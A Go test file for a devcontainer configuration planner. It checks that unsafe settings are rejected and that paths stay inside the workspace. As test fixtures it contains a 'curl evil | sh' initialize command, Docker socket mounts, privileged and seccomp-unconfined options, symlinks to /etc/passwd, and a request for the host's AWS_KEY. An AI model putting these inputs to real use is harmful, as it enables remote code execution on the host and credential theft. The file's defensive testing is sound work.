package devcontainer

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/crannog/crannog/internal/fault"
)

var update = flag.Bool("update", false, "rewrite the expected plans")

func none(string) (string, bool) { return "", false }

// The plans of five shapes of configurations: an image, a Dockerfile, mounts with all commands,
// features, and several configurations in one workspace.
func TestPlans(t *testing.T) {
	for _, c := range []struct{ dir, config string }{
		{"image", ""}, {"dockerfile", ""}, {"lifecycle", ""}, {"features", ""}, {"named", "go"}, {"named", "node"},
	} {
		t.Run(c.dir+c.config, func(t *testing.T) {
			dir, err := filepath.Abs(filepath.Join("testdata", c.dir))
			if err != nil {
				t.Fatal(err)
			}
			plan, err := Make(Options{Dir: dir, Config: c.config, LookUp: none})
			if err != nil {
				t.Fatal(err)
			}
			if len(plan.ID) != 52 {
				t.Errorf("ID: got %q, want 52 characters", plan.ID)
			}
			id := plan.ID[40:] // a part of names
			plan.ID = ""
			data, err := json.MarshalIndent(plan, "", "\t")
			if err != nil {
				t.Fatal(err)
			}
			got := strings.ReplaceAll(strings.ReplaceAll(string(data), dir, "$DIR"), id, "$ID") + "\n"
			file := filepath.Join("testdata", c.dir+c.config+".plan.json")
			if *update {
				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(file)
			if err != nil || got != string(want) {
				t.Errorf("plan: got %s, want %s (%v)", got, want, err)
			}
		})
	}
}

// workspace writes a workspace with one configuration.
func workspace(t *testing.T, config string) string {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, ".devcontainer.json"), []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}

// Everything that is not supported is named in one message, so that a user does not find it piece
// by piece.
func TestAllProblemsAreNamedAtOnce(t *testing.T) {
	_, err := Make(Options{LookUp: none, Dir: workspace(t, `{
		"image": "debian", "initializeCommand": "curl evil | sh", "privileged": true, "capAdd": ["SYS_PTRACE"],
		"securityOpt": ["seccomp=unconfined"], "runArgs": ["--net=host"], "dockerComposeFile": "compose.yaml",
		"mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind", "target=/cache,type=volume", "type=tmpfs,target=/t"],
		"overrideCommand": false, "hostRequirements": {"gpu": true}, "forwardPorts": ["db:5432"], "surprise": 1,
		"features": {"https://example.com/f.tgz": {}, "docker": {}}, "containerEnv": {"X": "${containerEnv:Y}"}, "build": {"options": ["--network=host"]}
	}`)})
	if fault.KindOf(err) != fault.Unsupported {
		t.Fatal(err)
	}
	for _, name := range []string{
		"initializeCommand", "privileged", "capAdd", "securityOpt", "runArgs", "dockerComposeFile", "mounts (/var/run/docker.sock)",
		"mounts (/cache)", "mounts (/t)", "overrideCommand", "hostRequirements.gpu", "forwardPorts", "surprise", "features (https://example.com/f.tgz)",
		"features (docker)", "containerEnv", "build.options",
	} {
		if !strings.Contains(err.Error(), "\n- "+name+": ") {
			t.Errorf("%s is not named in %v", name, err)
		}
	}
	if got := strings.Count(err.Error(), "\n- "); got != 17 {
		t.Errorf("Make: got %d problems, want 17: %v", got, err)
	}
}

// Attack: a repository contains a link to a file of the host and asks for it as a mount, a
// Dockerfile, a build context, a feature, or as the configuration itself.
func TestNoPathLeadsOutOfTheWorkspace(t *testing.T) {
	for property, config := range map[string]string{
		"mounts (/x)":       `{"image": "a", "mounts": ["type=bind,source=${localWorkspaceFolder}/out,target=/x"]}`,
		"workspaceMount":    `{"image": "a", "workspaceMount": "type=bind,source=${localWorkspaceFolder}/..,target=/x", "workspaceFolder": "/x"}`,
		"build.dockerfile":  `{"build": {"dockerfile": "out/passwd"}}`,
		"build.context":     `{"build": {"dockerfile": ".devcontainer.json", "context": "../"}}`,
		"features (./out)":  `{"image": "a", "features": {"./out": {}}}`,
		"workspaceFolder":   `{"image": "a", "workspaceFolder": "/usr"}`,
		"mounts (/etc)":     `{"image": "a", "mounts": ["type=bind,source=${localWorkspaceFolder},target=/etc/,readonly"]}`,
		"mounts (/proc/1)":  `{"image": "a", "mounts": ["type=bind,source=${localWorkspaceFolder},target=/x/../proc/1"]}`,
		"mounts (/missing)": `{"image": "a", "mounts": ["type=bind,source=${localWorkspaceFolder}/none,target=/missing"]}`,
	} {
		dir := workspace(t, config)
		if err := os.Symlink("/etc", filepath.Join(dir, "out")); err != nil {
			t.Fatal(err)
		}
		if _, err := Make(Options{Dir: dir, LookUp: none}); fault.KindOf(err) != fault.Unsupported || !strings.Contains(err.Error(), "\n- "+property+": ") {
			t.Errorf("Make of %s: got %v, want a problem of %s", config, err, property)
		}
	}
	dir := t.TempDir()
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, ".devcontainer.json")); err != nil {
		t.Fatal(err)
	}
	if _, err := Make(Options{Dir: dir, LookUp: none}); fault.KindOf(err) != fault.Invalid {
		t.Errorf("Make with a link out of the workspace: got %v, want Invalid", err)
	}
}

// Attack: a repository copies keys from the user's environment into its sandbox.
func TestVariablesOfTheHostAreAskedFor(t *testing.T) {
	dir := workspace(t, `{"image": "debian", "containerEnv": {"A": "${localEnv:AWS_KEY}", "B": "${localEnv:UNSET:b}${localEnv:UNSET}"}}`)
	o := Options{Dir: dir, LookUp: func(name string) (string, bool) { return "secret", name == "AWS_KEY" }}
	if _, err := Make(o); fault.KindOf(err) != fault.Unsupported || !strings.Contains(err.Error(), "AWS_KEY") || strings.Contains(err.Error(), "secret") {
		t.Errorf("Make without the permission: got %v, want a refusal that names AWS_KEY", err)
	}
	o.LocalEnv = []string{"AWS_KEY"}
	plan, err := Make(o)
	if err != nil || plan.ContainerEnv["A"] != "secret" || plan.ContainerEnv["B"] != "b" {
		t.Errorf("Make with the permission: got variables %v, error %v", plan.ContainerEnv, err)
	}
}

func TestUnknownVariablesStay(t *testing.T) {
	plan, err := Make(Options{Dir: workspace(t, `{"image": "x", "postCreateCommand": "echo ${HOME} ${localEnv:A:${B}} ${ $x"}`), LookUp: none})
	if want := "echo ${HOME} ${B} ${ $x"; err != nil || plan.Stages[0].Command.Parts[0].Args[2] != want {
		t.Errorf("Make: got commands %v, error %v, want %q", plan.Stages, err, want)
	}
	inside := Inside("${containerEnv:PATH}:${containerEnv:NONE:d}${containerEnv:", func(name string) (string, bool) { return "/bin", name == "PATH" })
	if inside != "/bin:d${containerEnv:" {
		t.Errorf("Inside: got %q", inside)
	}
}

// The ID is the one that the specification defines, so that it equals that of other programs.
func TestID(t *testing.T) {
	// node -e 'c=require("crypto");l={"devcontainer.config_file":"/w/.devcontainer.json","devcontainer.local_folder":"/w"};
	// console.log(BigInt("0x"+c.createHash("sha256").update(JSON.stringify(l)).digest("hex")).toString(32).padStart(52,"0"))'
	if got := ID("/w", ".devcontainer.json"); got != "0c27kmi3t5h3anj4psh9usfultojkmt45hfb3mf98sm13ug01diu" {
		t.Errorf("ID: got %q", got)
	}
}

func TestSeveralConfigurationsNeedAName(t *testing.T) {
	if _, err := Make(Options{Dir: "testdata/named", LookUp: none}); err == nil || !strings.Contains(err.Error(), "go, node") {
		t.Errorf("Make without a name: got %v, want an error that lists go and node", err)
	}
	if _, err := Make(Options{Dir: "testdata/named", Config: "../go", LookUp: none}); fault.KindOf(err) != fault.Invalid {
		t.Errorf("Make with a path as the name: got %v, want Invalid", err)
	}
	if _, err := Make(Options{Dir: t.TempDir(), LookUp: none}); fault.KindOf(err) != fault.NotFound {
		t.Errorf("Make in an empty directory: got %v, want NotFound", err)
	}
}

// FuzzPlan: any file gives a plan whose host paths are in the workspace, or an error.
func FuzzPlan(f *testing.F) {
	for _, name := range []string{"image/.devcontainer/devcontainer.json", "dockerfile/.devcontainer/devcontainer.json", "lifecycle/.devcontainer.json", "features/.devcontainer/devcontainer.json"} {
		data, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	dir, err := filepath.Abs("testdata/lifecycle")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		root, err := os.OpenRoot(dir)
		if err != nil {
			t.Fatal(err)
		}
		defer root.Close()
		plan, err := planOf(Options{Dir: dir, LookUp: none}, root, ".devcontainer.json", data)
		if err != nil {
			if fault.KindOf(err) == fault.Internal {
				t.Errorf("an error without a kind: %v", err)
			}
			return
		}
		paths := []string{dir}
		if plan.Build != nil {
			paths = append(paths, plan.Build.Context, plan.Build.Dockerfile)
		}
		for _, m := range plan.Mounts {
			paths = append(paths, m.Source)
		}
		for _, r := range plan.Features {
			if r.Local != "" {
				paths = append(paths, r.Local)
			}
		}
		for _, name := range paths {
			if !inside(dir, name) {
				t.Errorf("%q is outside %q", name, dir)
			}
		}
		if !filepath.IsAbs(plan.Folder) || plan.Image == "" && plan.Build == nil {
			t.Errorf("an incomplete plan: %+v", plan)
		}
	})
}
